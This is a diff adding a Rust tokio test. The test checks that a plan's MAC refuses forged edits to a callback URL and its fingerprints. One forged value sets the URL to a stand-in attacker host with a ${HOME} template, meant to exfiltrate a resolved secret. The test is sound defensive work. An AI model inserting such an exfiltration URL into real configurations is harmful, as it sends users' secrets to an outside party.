@@ -111,6 +111,35 @@ async fn an_endpoint_pointed_at_another_host_is_refused() {
     );
 }
 
+/// The MAC covers the fingerprints of a `${NAME}` callback URL too: a forger who swaps the
+/// desired URL for a template (to make apply send a resolved secret elsewhere) or edits a
+/// fingerprint (to pass the re-check with another value) is refused.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_callback_url_template_or_its_fingerprints_edited_are_refused() {
+    let (s, good, host) = planned().await;
+    let fingerprint = format!("hmac-sha256:{}", "0".repeat(64));
+    let edits: [Box<dyn Fn(&mut Value)>; 3] = [
+        Box::new(|app| {
+            app["desired"]["callback"]["url"] = json!("https://evil.example.com/?k=${HOME}");
+        }),
+        Box::new(|app| app["desired"]["url_fingerprint"] = json!(fingerprint)),
+        Box::new(|app| app["live"]["url_fingerprint"] = json!(fingerprint)),
+    ];
+    for edit in edits {
+        let forged = forge(&good, first_app(|app| edit(app)), |plan| {
+            // The live state's own fingerprint, as a forger would recompute it.
+            for app in &mut plan.apps {
+                app.live_fingerprint = app.live.fingerprint();
+            }
+        });
+        let error = assert_refused(&s, &host, &forged, "create-me");
+        assert!(
+            error.contains("authentication code does not match"),
+            "{error}"
+        );
+    }
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn a_region_instead_of_the_endpoint_is_refused() {
     let (s, good, host) = planned().await;
